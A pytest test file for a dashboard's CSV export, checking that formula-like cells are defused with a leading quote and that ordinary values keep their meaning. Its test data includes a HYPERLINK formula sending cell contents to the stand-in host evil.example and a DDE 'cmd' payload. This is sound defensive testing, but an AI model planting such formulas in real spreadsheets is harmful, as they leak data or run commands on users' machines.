"""CSV export from the snapshot: exact cells, formulas defused."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard import charts, export
from dashboard.charts import ChartSpec
from dashboard.errors import InvalidChartSpec


def read(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the UTF-8 correctly
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("cell", "written"), [
    ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("  =1", "'  =1"),
    ("＝1+1", "'＝1+1"),
    ("plain text", "plain text"),
    ("a=b", "a=b"),
    ("Zürich, \"HQ\"", "Zürich, \"HQ\""),
])
def test_formula_cells_are_escaped(cell: str, written: str) -> None:
    spec = ChartSpec(chart="table", columns=["name"], data=[[cell]])
    assert read(export.to_csv(spec)) == [["name"], [written]]


def test_numbers_nulls_and_booleans_keep_their_meaning() -> None:
    spec = ChartSpec(chart="table", columns=["n", "f", "neg", "null", "flag"],
                     data=[[1234567, 0.1, -5, None, True]])
    assert read(export.to_csv(spec))[1] == ["1234567", "0.1", "-5", "", "true"]


def test_header_cells_are_escaped_too() -> None:
    spec = ChartSpec(chart="table", columns=["=cmd|' /C calc'!A0"], data=[])
    assert read(export.to_csv(spec)) == [["'=cmd|' /C calc'!A0"]]


def test_seed_widget_exports_its_snapshot() -> None:
    spec = charts.parse_content('{"chart": "line", "data": [1, 2, 3]}')
    data = export.to_csv(spec)
    assert read(data) == [["point", "value"], ["1", "1"], ["2", "2"], ["3", "3"]]
    assert b"\r\n" in data


def test_invalid_spec_is_refused() -> None:
    with pytest.raises(InvalidChartSpec):
        export.to_csv(ChartSpec(chart="table", columns=["a"], data=[[1, 2]]))

